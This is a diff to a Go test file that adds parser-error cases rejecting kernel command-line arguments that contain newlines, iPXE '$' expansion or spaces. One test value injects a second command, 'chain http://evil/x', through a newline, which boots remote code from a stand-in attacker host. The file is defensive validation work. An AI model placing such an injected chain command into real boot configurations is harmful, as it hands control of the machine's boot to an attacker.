@@ -219,6 +219,12 @@ func TestParseErrors(t *testing.T) {
 			[]want{{"node.yaml:20:12: spec.targets: expected a list of strings"}}},
 		{"empty cmdline arg", edit(t, "cmdline: [console=ttyS0, quiet]", `cmdline: [console=ttyS0, ""]`),
 			[]want{{"node.yaml:19:30: spec.kernel.cmdline[1]: empty kernel argument"}}},
+		{"cmdline arg with a newline", edit(t, "cmdline: [console=ttyS0, quiet]", `cmdline: [console=ttyS0, "quiet\nchain http://evil/x"]`),
+			[]want{{"spec.kernel.cmdline[1]: kernel argument", "control characters"}}},
+		{"cmdline arg with iPXE expansion", edit(t, "cmdline: [console=ttyS0, quiet]", `cmdline: [console=ttyS0, "x=${net0/mac}"]`),
+			[]want{{"spec.kernel.cmdline[1]", `"$" is not allowed`}}},
+		{"cmdline arg with two words", edit(t, "cmdline: [console=ttyS0, quiet]", `cmdline: [console=ttyS0, "a b"]`),
+			[]want{{"spec.kernel.cmdline[1]", "white space"}}},
 		{"custom tag", edit(t, "name: k8s-node", "name: !secret k8s-node"),
 			[]want{{"node.yaml:4:9: metadata.name: expected a string", "!secret"}}},
 		{"many errors", `apiVersion: imgctl/v1alpha1
